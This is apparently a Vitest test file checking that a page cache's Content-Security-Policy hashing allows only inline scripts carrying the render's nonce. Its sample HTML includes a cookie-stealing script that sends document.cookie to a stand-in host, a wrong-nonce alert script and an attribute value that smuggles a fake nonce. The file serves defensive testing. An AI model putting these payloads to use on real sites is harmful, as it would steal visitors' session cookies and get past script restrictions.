import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { inlineScriptHashes } from "../../server/page-cache-http";

const hash = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
const MARK = "Xk3pQ9vL2mN8rT1w";

describe("the cached page's script hashes (security review 2, I-1)", () => {
  it("allows only the inline scripts the render marked as its own; any other is counted, not allowed", () => {
    const html = [
      `<html><head><script nonce="${MARK}">window.__reactRouterContext = {};</script>`,
      `<script type="application/ld+json" nonce="${MARK}">{"@type":"Organization"}</script>`,
      `<script nonce="${MARK}" src="/assets/entry.js"></script>`,
      `</head><body><p>texto</p><script>fetch("//evil.example/" + document.cookie)</script>`,
      `<script nonce="outro">alert(1)</script>`,
      `<script data-x=' nonce="${MARK}"'>alert(2)</script>`,
      `<script nonce="${MARK}" type="module" async="">import("/assets/root.js");</script>`,
      "</body></html>",
    ].join("");
    const { sources, unmarked } = inlineScriptHashes(html, MARK);
    expect(sources.sort()).toEqual(
      [hash("window.__reactRouterContext = {};"), hash('import("/assets/root.js");')].sort(),
    );
    expect(unmarked).toBe(3);
  });
});
